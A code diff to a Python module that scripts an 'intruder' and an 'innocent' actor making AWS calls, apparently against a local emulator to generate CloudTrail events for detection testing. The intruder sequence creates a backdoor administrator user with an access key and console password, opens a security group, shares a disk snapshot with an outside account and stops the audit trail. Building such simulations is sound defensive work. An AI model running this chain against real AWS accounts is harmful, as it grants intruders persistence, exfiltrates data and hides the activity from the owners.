@@ -1,5 +1,6 @@
 """Who acts in the member account: an intruder and an innocent, by real AWS calls with keys of their own."""
 
+import secrets
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from typing import Any
@@ -7,6 +8,7 @@ from typing import Any
 from infra.names import TRAIL_NAME
 from local.emulator import Emulator
 
+OUTSIDE_ACCOUNT = "777788889999"
 ADMINISTRATOR_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"
 ClientOf = Callable[[str], Any]
 
@@ -60,7 +62,7 @@ def intruder(client: ClientOf) -> Iterator[Act]:
     iam, ec2, cloudtrail = client("iam"), client("ec2"), client("cloudtrail")
     user = "support-backup"
     yield Act("asks whose key was stolen", client("sts").get_caller_identity)
-    yield Act("creates a user of its own", lambda: iam.create_user(UserName=user), "CreateUser")
+    yield Act("creates a user of its own", lambda: iam.create_user(UserName=user))
     yield Act(
         "makes that user an administrator",
         lambda: iam.attach_user_policy(UserName=user, PolicyArn=ADMINISTRATOR_POLICY),
@@ -68,6 +70,11 @@ def intruder(client: ClientOf) -> Iterator[Act]:
     )
     yield Act(
         "creates an access key for that user", lambda: iam.create_access_key(UserName=user), "CreateAccessKey"
+    )
+    yield Act(
+        "sets a console password for it",
+        lambda: iam.create_login_profile(UserName=user, Password=secrets.token_urlsafe(24) + "aA1!"),
+        "CreateLoginProfile",
     )
     group = ec2.create_security_group(GroupName="maintenance", Description="maintenance")["GroupId"]
     yield Act(
@@ -79,5 +86,15 @@ def intruder(client: ClientOf) -> Iterator[Act]:
             ],
         ),
         "AuthorizeSecurityGroupIngress",
+    )
+    zone = f"{ec2.meta.region_name}a"
+    volume = ec2.create_volume(AvailabilityZone=zone, Size=8)["VolumeId"]
+    snapshot = ec2.create_snapshot(VolumeId=volume, Description="before the migration")["SnapshotId"]
+    yield Act(
+        "shares a disk's snapshot with an account outside",
+        lambda: ec2.modify_snapshot_attribute(
+            SnapshotId=snapshot, CreateVolumePermission={"Add": [{"UserId": OUTSIDE_ACCOUNT}]}
+        ),
+        "ModifySnapshotAttribute",
     )
     yield Act("stops the trail", lambda: cloudtrail.stop_logging(Name=TRAIL_NAME), "StopLogging")
